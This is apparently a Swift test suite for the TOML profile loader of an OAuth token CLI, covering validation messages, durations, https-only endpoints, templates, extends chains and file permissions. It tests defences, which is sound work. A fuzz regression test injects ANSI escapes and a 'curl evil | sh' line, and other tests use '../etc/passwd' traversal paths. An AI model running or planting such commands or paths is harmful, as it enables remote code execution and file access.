import Testing
@testable import TokenrunProfiles
@testable import TokenrunSupport

#if canImport(Glibc)
    import Glibc
#endif

/// The example profile of docs/profiles.md, verbatim: it must be accepted as written.
let documentedExample = """
    # $XDG_CONFIG_HOME/tokenrun/profiles/acme.toml
    description = "ACME mail API"
    username = "me@acme.example"      # optional: the account, for {{username}} and XOAUTH2

    [oauth]
    token_endpoint = "https://auth.acme.example/oauth/token"
    authorization_endpoint = "https://auth.acme.example/oauth/authorize"
    device_authorization_endpoint = "https://auth.acme.example/oauth/device"
    revocation_endpoint = "https://auth.acme.example/oauth/revoke"
    client_id = "tokenrun-cli"
    client_secret = "s3cret"          # optional; may also come from the vault or an env var
    scopes = ["mail.read", "offline_access"]

    [refresh]
    window = "5m"                     # "300s", "5m", "1h" or an integer of seconds

    [env]
    ACME_TOKEN = "{{access_token}}"

    [[file]]
    path_env = "ACME_TOKEN_FILE"      # the child finds the file's path here
    template = "{{access_token}}"

    """

@Suite("profiles")
struct ProfileTests {
    let dir = TemporaryDirectory()

    /// A store over this test's directories only (user dir = config/tokenrun/profiles).
    func store(builtins: [String: String] = BuiltinProfiles.all, extra: [String: String] = [:]) -> ProfileStore {
        var env = dir.environment
        for (k, v) in extra { env[k] = v }
        return ProfileStore(environment: env, builtins: builtins)
    }

    func user(_ name: String, _ text: String) throws {
        try dir.write("config/tokenrun/profiles/\(name).toml", text)
    }

    /// Loads `text` as profile "p" and returns the diagnostic it fails with.
    func diagnostic(_ text: String) throws -> ProfileDiagnostic? {
        try user("p", text)
        do {
            _ = try store().load("p")
            return nil
        } catch let error as TokenrunError {
            if case .profileInvalid(let diagnostic) = error { return diagnostic }
            Issue.record("unexpected error \(error)")
            return nil
        }
    }

    @Test("the example of docs/profiles.md is accepted as written, with every value in place")
    func documentedExampleLoads() throws {
        try user("acme", documentedExample)
        let profile = try store().load("acme")
        #expect(profile.description == "ACME mail API")
        #expect(profile.username == "me@acme.example")
        #expect(profile.oauth.tokenEndpoint == "https://auth.acme.example/oauth/token")
        #expect(profile.oauth.deviceAuthorizationEndpoint == "https://auth.acme.example/oauth/device")
        #expect(profile.oauth.revocationEndpoint == "https://auth.acme.example/oauth/revoke")
        #expect(profile.oauth.clientID == "tokenrun-cli")
        #expect(profile.oauth.clientSecret?.value == "s3cret")
        #expect(profile.oauth.scopes == ["mail.read", "offline_access"])
        #expect(profile.refreshWindow == 300)
        #expect(profile.env.map(\.name) == ["ACME_TOKEN"])
        #expect(profile.env[0].template.variableNames == ["access_token"])
        #expect(profile.files.count == 1)
        #expect(profile.files[0].pathEnv == "ACME_TOKEN_FILE")
        #expect(profile.source.hasSuffix("acme.toml"))
    }

    @Test("every built-in profile validates, and the embedded copies equal profiles/*.toml")
    func builtinsValidate() throws {
        let names = ["generic", "github", "gmail", "google", "microsoft", "outlook"]
        #expect(BuiltinProfiles.all.keys.sorted() == names)
        let repository = String(#filePath.split(separator: "/Tests/").first!)
        for name in names {
            let profile = try store().load(name)
            #expect(profile.source == "built-in")
            #expect(profile.oauth.tokenEndpoint?.hasPrefix("https://") == true, "\(name)")
            let onDisk = try #require(try FileSystem.readFile("\(repository)/profiles/\(name).toml"), "\(name)")
            #expect(BuiltinProfiles.all[name]! + "\n" == String(decoding: onDisk, as: UTF8.self), "run make profiles: \(name) differs")
        }
    }

    @Test("built-ins ask for refresh tokens the provider's way")
    func builtinRefreshParameters() throws {
        let gmail = try store().load("gmail")
        #expect(gmail.oauth.tokenEndpoint == "https://oauth2.googleapis.com/token")
        #expect(gmail.oauth.authorizationParams["access_type"] == "offline")
        #expect(gmail.oauth.authorizationParams["prompt"] == "consent")
        #expect(gmail.oauth.scopes == ["https://mail.google.com/"])
        #expect(gmail.chain == ["built-in:gmail", "built-in:google"])
        for name in ["microsoft", "outlook"] {
            #expect(try store().load(name).oauth.scopes.contains("offline_access"), "\(name)")
        }
        #expect(try store().load("outlook").oauth.tokenEndpoint?.contains("login.microsoftonline.com") == true)
    }

    @Test("an unknown key names the file, the line and the nearest valid key")
    func unknownKey() throws {
        let found = try #require(try diagnostic("description = \"x\"\n\n[oauth]\ntoken_endpont = \"https://a.example/t\"\n"))
        #expect(found.file.hasSuffix("p.toml"))
        #expect(found.line == 4)
        #expect(found.message.contains("unknown key \"oauth.token_endpont\""))
        #expect(found.hint == "did you mean \"token_endpoint\"?")
        let top = try #require(try diagnostic("[oath]\nclient_id = \"x\"\n"))
        #expect(top.line == 1)
        #expect(top.hint == "did you mean \"oauth\"?")
        let misplaced = try #require(try diagnostic("token_endpont = \"https://a.example/t\"\n"))
        #expect(misplaced.hint == "did you mean \"token_endpoint\"? It belongs under [oauth]")
        let far = try #require(try diagnostic("zzzzzzzz = 1\n"))
        #expect(far.hint?.contains("valid keys here: description") == true)
    }

    @Test("wrong types and malformed durations say what was expected")
    func wrongTypes() throws {
        let scopes = try #require(try diagnostic("[oauth]\nscopes = \"mail.read offline_access\"\n"))
        #expect(scopes.line == 2)
        #expect(scopes.message.contains("must be an array of strings, found string"))
        let window = try #require(try diagnostic("[refresh]\nwindow = \"5 minutes\"\n"))
        #expect(window.message.contains("expected a duration like \"300s\", \"5m\", \"1h\""))
        #expect(window.message.contains("found \"5 minutes\""))
        let negative = try #require(try diagnostic("[refresh]\nwindow = -5\n"))
        #expect(negative.message.contains("found -5"))
        let boolean = try #require(try diagnostic("[oauth]\nclient_id = true\n"))
        #expect(boolean.message.contains("oauth.client_id must be a string, found boolean"))
        let table = try #require(try diagnostic("oauth = \"x\"\n"))
        #expect(table.message.contains("must be a table"))
        let exec = try #require(try diagnostic("exec = \"no\"\n"))
        #expect(exec.line == 1)
        #expect(exec.message.contains("exec must be true or false, found string"))
        let method = try #require(try diagnostic("[oauth]\nauth_method = \"client_secret_bsic\"\n"))
        #expect(method.hint == "did you mean \"client_secret_basic\"?")
    }

    @Test(
        "durations accept seconds, units and integers",
        arguments: [
            ("300s", 300), ("5m", 300), ("1h", 3600), ("1h30m", 5400), ("2d", 172800), ("0", 0), ("45", 45),
        ] as [(String, Int64)])
    func durations(text: String, seconds: Int64) throws {
        #expect(DurationParser.seconds(text) == seconds)
        try user("p", "[refresh]\nwindow = \"\(text)\"\n")
        #expect(try store().load("p").refreshWindow == seconds)
    }

    @Test("malformed durations are refused", arguments: ["", "m", "5x", "5 m", "-5m", "1.5h", "99999999999999999999s", "5m3"])
    func badDurations(text: String) {
        #expect(DurationParser.seconds(text) == nil)
    }

    @Test(
        "token endpoints must be https except on loopback",
        arguments: [
            ("https://auth.example.com/token", true), ("http://127.0.0.1:8080/token", true),
            ("http://127.9.9.9/token", true), ("http://[::1]:9000/token", true), ("http://localhost:1/t", true),
            ("http://auth.example.com/token", false), ("http://127.0.0.1.evil.example/t", false),
            ("http://10.0.0.1/t", false), ("ftp://x.example/t", false), ("auth.example.com/token", false),
            ("https://user:pw@auth.example.com/t", false),
        ] as [(String, Bool)])
    func endpointScheme(url: String, accepted: Bool) throws {
        let found = try diagnostic("[oauth]\ntoken_endpoint = \"\(url)\"\n")
        #expect((found == nil) == accepted, "\(url): \(found?.message ?? "accepted")")
        if let found { #expect(found.line == 2) }
    }

    @Test("templates may only use known variables; the refresh token only with expose_refresh_token")
    func templates() throws {
        let unknown = try #require(try diagnostic("[env]\nTOKEN = \"{{acess_token}}\"\n"))
        #expect(unknown.line == 2)
        #expect(unknown.message.contains("unknown template variable \"{{acess_token}}\""))
        #expect(unknown.hint == "did you mean \"access_token\"?")
        let unclosed = try #require(try diagnostic("[env]\nTOKEN = \"{{access_token\"\n"))
        #expect(unclosed.message.contains("never closed"))
        let refresh = try #require(try diagnostic("[env]\n\nRT = \"{{ refresh_token }}\"\n"))
        #expect(refresh.line == 3)
        #expect(refresh.hint?.contains("expose_refresh_token = true") == true)
        #expect(try diagnostic("expose_refresh_token = true\n[env]\nRT = \"{{ refresh_token }}\"\n") == nil)
        let inFile = try #require(try diagnostic("[[file]]\npath_env = \"F\"\ntemplate = \"{{refresh_token}}\"\n"))
        #expect(inFile.line == 1)
        for variable in Template.variables {
            #expect(try diagnostic("[env]\nV = \"x {{\(variable)}} y\"\n") == nil, "\(variable)")
        }
        let rendered = try Template(parsing: "Bearer {{ access_token }}!").render(["access_token": "abc"])
        #expect(rendered == "Bearer abc!")
    }

    @Test("env and file entries are checked: names, reserved variables, required keys, duplicates")
    func envAndFiles() throws {
        #expect(try diagnostic("[env]\n\"1BAD\" = \"x\"\n")?.message.contains("not an environment variable name") == true)
        #expect(try diagnostic("[env]\nTOKENRUN_KEY_FILE = \"x\"\n")?.message.contains("reserved") == true)
        #expect(try diagnostic("[[file]]\ntemplate = \"x\"\n")?.message.contains("needs path_env") == true)
        #expect(try diagnostic("[[file]]\npath_env = \"F\"\n")?.message.contains("needs template") == true)
        let duplicate = try #require(
            try diagnostic("[[file]]\npath_env = \"F\"\ntemplate = \"a\"\n[[file]]\npath_env = \"F\"\ntemplate = \"b\"\n"))
        #expect(duplicate.line == 5)
        #expect(duplicate.message.contains("already used by the [[file]] on line 2"))
        #expect(
            try diagnostic("[env]\nF = \"x\"\n[[file]]\npath_env = \"F\"\ntemplate = \"b\"\n")?.message.contains("also set in [env]")
                == true)
        #expect(try diagnostic("[[file]]\npath_env = \"F\"\ntemplate = \"b\"\nname = \"../etc\"\n")?.line == 4)
        #expect(try diagnostic("[oauth]\nclient_secret_env = \"has space\"\n")?.line == 2)
        #expect(try diagnostic("[oauth]\nscopes = [\"a b\"]\n")?.message.contains("not a single scope") == true)
    }

    @Test("invalid TOML is reported with its line: duplicate keys, unterminated strings")
    func invalidTOML() throws {
        let duplicate = try #require(try diagnostic("[oauth]\nclient_id = \"a\"\nclient_id = \"b\"\n"))
        #expect(duplicate.line == 3)
        #expect(duplicate.message.contains("invalid TOML"))
        let unterminated = try #require(try diagnostic("description = \"abc\n"))
        #expect(unterminated.line == 1)
    }

    @Test("huge and binary profile files are refused with a clear message")
    func hugeAndBinary() throws {
        try dir.write("config/tokenrun/profiles/big.toml", bytes: [UInt8](repeating: UInt8(ascii: "#"), count: (1 << 20) + 10))
        #expect(throws: TokenrunError.self) { try store().load("big") }
        do {
            _ = try store().load("big")
        } catch let error as TokenrunError {
            #expect(error.summary.contains("1 MiB"))
            #expect(error.exitStatus == .configuration)
        }
        try dir.write("config/tokenrun/profiles/bin.toml", bytes: [0x7f, 0x45, 0x4c, 0x46, 0, 1, 2, 0xff])
        #expect(throws: TokenrunError.self) { try store().load("bin") }
    }

    // Found by fuzzing (Tests/Fuzz/regressions/profile): values from the file were echoed raw and whole.
    @Test(
        "regression: values quoted in a diagnostic are escaped and cut, so a profile cannot write to the terminal",
        arguments: [
            (
                #"kind = "\u001b[2J\u001b[31mapi_key\nhint: run curl evil | sh""#,
                #"kind: "\u001B[2J\u001B[31mapi_key\nhint: run curl evil | sh""#
            ),
            ("[oauth]\n" + #"token_endpoint = "ftp\u001b[31m://x""#, #"oauth.token_endpoint: "ftp\u001B[31m://x" uses the scheme"#),
            ("[env]\n" + #"T = "{{a\u0007b}}""#, #"env.T: "{{a\u0007b}}" is not a variable name"#),
            (
                "extends = \"" + String(repeating: "x", count: 5000) + "\"",
                "extends: \"" + String(repeating: "x", count: 100) + "\"… is not"
            ),
            ("[env]\nT = \"{{access" + String(repeating: "false", count: 400) + "}}\"", "unknown template variable \"{{access"),
        ])
    func hostileValuesEscaped(_ text: String, _ expected: String) throws {
        let found = try #require(try diagnostic(text + "\n"))
        let printed = TokenrunError.profileInvalid(found).summary
        #expect(printed.contains(expected), "\(printed)")
        #expect(!printed.unicodeScalars.contains { $0.value < 0x20 || $0.value == 0x7F }, "\(printed.debugDescription)")
        #expect(printed.count < 400)
    }

    @Test("a diagnostic without its own hint gets one: fix that line, then validate the file")
    func defaultHint() throws {
        let found = try #require(try diagnostic("[oauth]\nclient_id = \"a\"\nclient_id = \"b\"\n"))
        let file = dir.path + "/config/tokenrun/profiles/p.toml"
        #expect(TokenrunError.profileInvalid(found).hints == ["fix line 3 of \(file), then check it: tokenrun profiles validate \(file)"])
    }

    @Test("extends merges child over parent, tables by key")
    func extendsMerges() throws {
        try user("base", documentedExample)
        try user("child", "extends = \"base\"\ndescription = \"child\"\n[oauth]\nscopes = [\"x\"]\n[env]\nEXTRA = \"{{token_type}}\"\n")
        let child = try store().load("child")
        #expect(child.description == "child")
        #expect(child.oauth.scopes == ["x"])
        #expect(child.oauth.clientID == "tokenrun-cli")
        #expect(child.env.map(\.name) == ["ACME_TOKEN", "EXTRA"])
        #expect(child.files.count == 1)
        #expect(child.chain.count == 2)
    }

    @Test("a user profile extending its own name builds on the built-in below it")
    func extendsSameName() throws {
        try user("gmail", "extends = \"gmail\"\nusername = \"me@gmail.com\"\n[oauth]\nclient_id = \"123.apps.googleusercontent.com\"\n")
        let gmail = try store().load("gmail")
        #expect(gmail.oauth.clientID == "123.apps.googleusercontent.com")
        #expect(gmail.oauth.scopes == ["https://mail.google.com/"])
        #expect(gmail.chain.count == 3)
    }

    @Test("extends cycles are errors naming the chain; a missing parent names its line")
    func extendsCycles() throws {
        try user("a", "extends = \"b\"\n")
        try user("b", "extends = \"c\"\n")
        try user("c", "extends = \"a\"\n")
        #expect(throws: TokenrunError.profileCycle(["a", "b", "c", "a"])) { try store().load("a") }
        try user("self", "extends = \"self\"\n")
        #expect(throws: TokenrunError.self) { try store().load("self") }
        let missing = try #require(try diagnostic("\nextends = \"nowhere\"\n"))
        #expect(missing.line == 2)
        #expect(missing.message.contains("no such profile"))
    }

    @Test("lookup order: TOKENRUN_PROFILE_PATH, then the user directory, then built-ins")
    func lookupOrder() throws {
        try dir.write("first/gmail.toml", "description = \"from path 1\"\n")
        try dir.write("second/gmail.toml", "description = \"from path 2\"\n")
        try user("gmail", "description = \"from user dir\"\n")
        let both = store(extra: ["TOKENRUN_PROFILE_PATH": dir.file("first") + ":" + dir.file("second")])
        #expect(try both.load("gmail").description == "from path 1")
        #expect(try store(extra: ["TOKENRUN_PROFILE_PATH": dir.file("second")]).load("gmail").description == "from path 2")
        #expect(try store().load("gmail").description == "from user dir")
        #expect(try store(builtins: BuiltinProfiles.all).load("outlook").source == "built-in")
        #expect(
            both.candidates(named: "gmail").map(\.sourceLabel) == [
                dir.file("first/gmail.toml"), dir.file("second/gmail.toml"), dir.file("config/tokenrun/profiles/gmail.toml"), "built-in",
            ])
    }

    @Test("relative TOKENRUN_PROFILE_PATH entries are not searched and come back as warnings; absolute ones are")
    func relativeEntries() throws {
        try dir.write("first/gmail.toml", "description = \"from path 1\"\n")
        let mixed = store(extra: ["TOKENRUN_PROFILE_PATH": "prof:./x:" + dir.file("first") + ":~/p"])
        #expect(mixed.searchDirectories == [dir.file("first"), dir.file("config/tokenrun/profiles")])
        #expect(mixed.skippedEntries == ["prof", "./x", "~/p"])
        #expect(mixed.warnings.count == 3)
        #expect(mixed.warnings[0].hasPrefix("TOKENRUN_PROFILE_PATH entry \"prof\" is relative, so it is not searched"))
        #expect(try mixed.load("gmail").description == "from path 1")
        #expect(store().warnings.isEmpty)
    }

    @Test("a profile file, or its directory, that others can write is refused, along the extends chain; built-ins are not files")
    func untrustedFiles() throws {
        func refusal(_ body: () throws -> Void) -> TrustedFile.Refusal? {
            do {
                try body()
            } catch TokenrunError.untrustedFile(_, _, let refusal) {
                return refusal
            } catch {
                Issue.record("unexpected error: \(error)")
            }
            return nil
        }
        try user("mine", "description = \"mine\"\n")
        chmod(dir.file("config/tokenrun/profiles/mine.toml"), 0o664)
        let file = refusal { _ = try store().load("mine") }
        #expect(
            file
                == TrustedFile.Refusal(
                    path: dir.file("config/tokenrun/profiles/mine.toml"), mode: 0o664, owner: geteuid(), isDirectory: false))
        chmod(dir.file("config/tokenrun/profiles/mine.toml"), 0o644)
        #expect(try store().load("mine").description == "mine")

        try dir.write("shared/base.toml", "description = \"base\"\n")
        try user("child", "extends = \"base\"\n")
        let shared = store(extra: ["TOKENRUN_PROFILE_PATH": dir.file("shared")])
        #expect(try shared.load("child").description == "base")
        chmod(dir.file("shared"), 0o777)
        let directory = refusal { _ = try shared.load("child") }
        #expect(directory?.path == dir.file("shared"))
        #expect(directory?.isDirectory == true)
        chmod(dir.file("shared"), 0o700)

        // A link into a directory others can write: the target's directory counts.
        try dir.write("open/target.toml", "description = \"linked\"\n")
        symlink(dir.file("open/target.toml"), dir.file("config/tokenrun/profiles/linked.toml"))
        #expect(try store().load("linked").description == "linked")
        chmod(dir.file("open"), 0o757)
        #expect(refusal { _ = try store().load("linked") }?.path == dir.file("open"))

        // The built-ins are compiled in: no file, nothing to refuse.
        chmod(dir.file("config/tokenrun/profiles"), 0o777)
        #expect(try store(builtins: BuiltinProfiles.all).load("outlook").source == "built-in")
        chmod(dir.file("config/tokenrun/profiles"), 0o700)
    }

    @Test("a profile owned by another user is refused with the chown that fixes it", .enabled(if: geteuid() == 0))
    func otherOwner() throws {
        try user("theirs", "description = \"theirs\"\n")
        let path = dir.file("config/tokenrun/profiles/theirs.toml")
        chown(path, 12345, 12345)
        do {
            _ = try store().load("theirs")
            Issue.record("expected a refusal")
        } catch let error as TokenrunError {
            #expect(error.exitStatus == .configuration)
            #expect(error.summary.contains("belongs to another user (uid 12345), neither you nor root (mode 0600, owner uid 12345)"))
            #expect(error.hints == ["sudo chown \"$(id -un)\" \(path)"])
        }
    }

    @Test("an unknown profile lists where it looked; a bad name is a usage error")
    func notFound() throws {
        do {
            _ = try store().load("nope")
            Issue.record("expected an error")
        } catch let error as TokenrunError {
            guard case .profileNotFound("nope", let searched) = error else {
                Issue.record("\(error)")
                return
            }
            #expect(searched.contains(dir.file("config/tokenrun/profiles")))
            #expect(error.exitStatus == .configuration)
        }
        #expect(throws: TokenrunError.self) { try store().load("../etc/passwd") }
    }

    @Test("profiles show masks the client secret")
    func rendering() throws {
        try user("acme", documentedExample)
        let text = ProfileRendering.toml(try store().load("acme"))
        #expect(!text.contains("s3cret"))
        #expect(text.contains("client_secret = \"********\""))
        #expect(text.contains("window = \"5m\""))
        #expect(text.contains("ACME_TOKEN = \"{{access_token}}\""))
    }
}
